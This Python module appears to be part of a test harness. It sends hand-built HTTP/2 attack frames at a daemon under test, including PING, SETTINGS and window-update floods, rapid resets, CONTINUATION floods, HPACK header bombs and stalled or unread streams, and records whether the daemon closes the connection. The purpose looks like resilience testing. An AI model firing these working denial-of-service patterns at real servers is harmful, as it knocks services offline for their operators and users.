"""Attacks over HTTP/2, frame by frame (RFC 9113)."""

import contextlib
import ssl
import struct
import time

from hpack import Encoder

from .outcome import Outcome

DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
PRIORITY_UPDATE = 0x10
END_STREAM, END_HEADERS, PADDED, ACK = 1, 4, 8, 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATIENCE = 12
# How long a flood lasts if the daemon does not end it.
FLOOD = 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def word(number):
    return struct.pack(">I", number)


class Connection:
    """One connection. It reads frames without obeying them."""

    def __init__(self, at, settings=b""):
        self.at, self.socket = at, at.visit("h2")
        self.encoder, self.rest = Encoder(), b""
        self.answered, self.ended, self.goaway, self.closed = set(), set(), None, False
        self.sent = 0
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def head(self, path, method="GET", *more):
        fields = [(":method", method), (":scheme", "https"), (":path", path), (":authority", self.at.host(self.at.name))]
        return self.encoder.encode([*fields, *more], huffman=False)

    def send(self, data):
        self.socket.sendall(data)
        self.sent += len(data)

    def ask(self, streams, path, method="GET", end=True):
        """Opens these streams with requests."""
        flags = END_HEADERS | (END_STREAM if end else 0)
        self.send(b"".join(frame(HEADERS, flags, stream, self.head(path, method)) for stream in streams))

    def receive(self, seconds):
        """Reads a record that comes in this time. Returns whether one came."""
        self.socket.settimeout(max(seconds, 0.001))
        try:
            data = self.socket.recv(1 << 16)
            self.closed = not data
        except TimeoutError:
            return False
        except (OSError, ssl.SSLError):
            self.closed = True
            return False
        self.rest += data
        while len(self.rest) >= 9:
            length = int.from_bytes(self.rest[:3], "big")
            if len(self.rest) < 9 + length:
                return True
            kind, flags, stream = self.rest[3], self.rest[4], int.from_bytes(self.rest[5:9], "big")
            if kind == RST or (kind in (DATA, HEADERS) and flags & END_STREAM):
                self.ended.add(stream)
            if kind == HEADERS:
                self.answered.add(stream)
            elif kind == GOAWAY:
                self.goaway = int.from_bytes(self.rest[13:17], "big")
            self.rest = self.rest[9 + length :]
        return True


def _flood(at, piece, first=lambda connection: None, settings=b""):
    """Sends the piece, bytes or a function that makes them, again and again until the connection is closed."""
    connection = Connection(at, settings)
    first(connection)
    began = time.monotonic()
    connection.socket.settimeout(0.5)
    while not connection.closed and time.monotonic() < began + FLOOD:
        try:
            connection.send(piece(connection) if callable(piece) else piece)
        except TimeoutError:
            pass
        except (OSError, ssl.SSLError):
            break
    ended = at.until_closed(began, 3)
    while not connection.closed and ended is not None:
        connection.receive(1)
    connection.socket.close()
    said = "no GOAWAY" if connection.goaway is None else f"GOAWAY {connection.goaway:#x}"
    return Outcome(connection.sent, 1, 1, ended, said)


def _post(connection):
    connection.ask([1], "/upload", "POST", end=False)


def pings(at):
    return _flood(at, frame(PING, 0, 0, bytes(8)) * 1000)


def ping_acknowledgements(at):
    """They answer no PING."""
    return _flood(at, frame(PING, ACK, 0, bytes(8)) * 1000)


def settings(at):
    return _flood(at, frame(SETTINGS, 0, 0) * 1000)


def settings_acknowledgements(at):
    return _flood(at, frame(SETTINGS, ACK, 0) * 1000)


def priorities(at):
    return _flood(at, frame(PRIORITY, 0, 1, bytes(4) + b"\x10") * 1000)


def priority_updates(at):
    return _flood(at, frame(PRIORITY_UPDATE, 0, 0, word(1) + b"u=1") * 1000, _post)


def window_updates(at):
    return _flood(at, frame(WINDOW, 0, 0, word(1)) * 1000)


def window_updates_of_a_stream(at):
    return _flood(at, frame(WINDOW, 0, 1, word(1)) * 1000, _post)


def unknown_frames(at):
    return _flood(at, frame(0x55, 0, 0, bytes(8)) * 1000)


def empty_data(at):
    return _flood(at, frame(DATA, 0, 1) * 1000, _post)


def padding(at):
    """Data frames of padding alone."""
    return _flood(at, frame(DATA, PADDED, 1, b"\xff" + bytes(255)) * 100, _post)


def empty_continuations(at):
    return _flood(at, frame(CONTINUATION, 0, 1) * 1000, lambda c: c.send(frame(HEADERS, 0, 1, c.head("/"))))


def endless_continuations(at):
    field = b"\x00\x01x\x7f\x81\x00" + bytes(256)
    return _flood(at, frame(CONTINUATION, 0, 1, field) * 50, lambda c: c.send(frame(HEADERS, 0, 1, c.head("/"))))


def resets_of_closed_streams(at):
    def first(connection):
        connection.ask([1], "/")
        while 1 not in connection.answered and not connection.closed:
            connection.receive(1)

    return _flood(at, frame(RST, 0, 1, word(8)) * 1000, first)


def rapid_resets(at):
    """Requests that are taken back at once."""
    last = -1

    def more(connection):
        nonlocal last
        out = b""
        for _ in range(100):
            last += 2
            out += frame(HEADERS, END_HEADERS | END_STREAM, last, connection.head("/")) + frame(RST, 0, last, word(8))
        return out

    return _flood(at, more)


def header_bombs(at):
    """Heads that name one long field a thousand times by its index (RFC 7541, section 7.3)."""
    last = -1

    def more(connection):
        nonlocal last
        last += 2
        long = connection.head("/", "GET", ("x-long", "x" * 3900)) if last == 1 else connection.head("/")
        return frame(HEADERS, END_HEADERS | END_STREAM, last, long + b"\xbe" * 2000)

    return _flood(at, more)


def _until_ended(at, connections, exchanges, step=lambda: None, answers=False):
    """Waits until the daemon has ended all streams of the connections. With `answers`, an answer ends a stream."""
    began, took = time.monotonic(), None
    over = lambda c: c.ended | c.answered if answers else c.ended  # noqa: E731
    while time.monotonic() < began + PATIENCE:
        step()
        for connection in connections:
            # The daemon writes a record for each answer.
            while not connection.closed and connection.receive(0.001):
                pass
        if all(connection.closed or len(over(connection)) >= exchanges for connection in connections):
            took = time.monotonic() - began
            break
    for connection in connections:
        connection.socket.close()
    return Outcome(sum(connection.sent for connection in connections), len(connections), exchanges * len(connections), took)


STREAMS = 200


def unread_streams(at):
    """Downloads whose windows are never opened again. The windows are as large as can be."""
    grant = frame(WINDOW, 0, 0, word(2**31 - 1 - 65535))
    connections = []
    for _ in range(at.many(1)):
        connection = Connection(at, struct.pack(">HI", 4, 1 << 18))
        connection.send(grant)
        connection.ask(range(1, 2 * STREAMS, 2), "/huge")
        connections.append(connection)
    return _until_ended(at, connections, STREAMS)


def unread_connections(at):
    """Downloads over connections that read nothing at all."""
    connections = []
    for _ in range(at.many(1)):
        connection = Connection(at, struct.pack(">HI", 4, 2**31 - 1))
        connection.send(frame(WINDOW, 0, 0, word(2**31 - 1 - 65535)))
        connection.ask(range(1, 2 * STREAMS, 2), "/huge")
        connections.append(connection)
    ended = at.until_closed(time.monotonic(), PATIENCE)
    for connection in connections:
        connection.socket.close()
    return Outcome(sum(c.sent for c in connections), len(connections), STREAMS * len(connections), ended)


def windows_of_one_byte(at):
    """Downloads that are read a byte at a time."""
    connections = []
    for _ in range(at.many(1)):
        connection = Connection(at, struct.pack(">HI", 4, 1))
        connection.ask(range(1, 2 * STREAMS, 2), "/huge")
        connections.append(connection)
    grants = frame(WINDOW, 0, 0, word(STREAMS)) + b"".join(frame(WINDOW, 0, n, word(1)) for n in range(1, 2 * STREAMS, 2))

    def step():
        for connection in connections:
            with contextlib.suppress(OSError, ssl.SSLError):
                connection.send(grants)
        time.sleep(0.1)

    return _until_ended(at, connections, STREAMS, step)


def stalled_uploads(at):
    """Uploads that stand still, enough to take every place of the tunnel."""
    connections = []
    for _ in range(at.many(6)):
        connection = Connection(at)
        connection.ask(range(1, 2 * STREAMS, 2), "/upload", "POST", end=False)
        connections.append(connection)
    return _until_ended(at, connections, STREAMS, answers=True)


def unread_uploads(at):
    """Uploads to a service that takes nothing, as far as the windows reach."""
    connections = []
    for _ in range(at.many(4)):
        connection = Connection(at)
        connection.ask(range(1, 2 * STREAMS, 2), "/ignored", "POST", end=False)
        piece = b"".join(frame(DATA, 0, n, bytes(4096)) for n in range(1, 2 * STREAMS, 2))
        connection.socket.settimeout(0.5)
        # It takes no account of windows of streams, and little of the connection's.
        with contextlib.suppress(OSError, ssl.SSLError):
            connection.send(piece[: (1 << 16) - 5000])
        connections.append(connection)
    return _until_ended(at, connections, STREAMS, answers=True)


def silent_connections(at):
    """Connections that send their preface and never ask."""
    connections = [Connection(at) for _ in range(at.many(100))]
    ended = at.until_closed(time.monotonic(), PATIENCE)
    for connection in connections:
        connection.socket.close()
    return Outcome(sum(c.sent for c in connections), len(connections), 0, ended)


def unacknowledged_ends(at):
    """Idle connections that acknowledge nothing, not even that they end."""
    connections = [Connection(at) for _ in range(at.many(100))]
    for connection in connections:
        connection.ask([1], "/")
    ended = at.until_closed(time.monotonic(), PATIENCE)
    for connection in connections:
        connection.socket.close()
    return Outcome(sum(c.sent for c in connections), len(connections), len(connections), ended)


def slow_continuations(at):
    """Heads that come in small pieces and never end."""
    connections = [Connection(at) for _ in range(at.many(50))]
    began = time.monotonic()
    for connection in connections:
        connection.send(frame(HEADERS, 0, 1, connection.head("/")))
    while at.established() and time.monotonic() < began + PATIENCE:
        for connection in connections:
            with contextlib.suppress(OSError, ssl.SSLError):
                connection.send(frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y"))
        time.sleep(0.2)
    ended = at.until_closed(began, 1)
    for connection in connections:
        connection.socket.close()
    return Outcome(sum(c.sent for c in connections), len(connections), 0, ended)
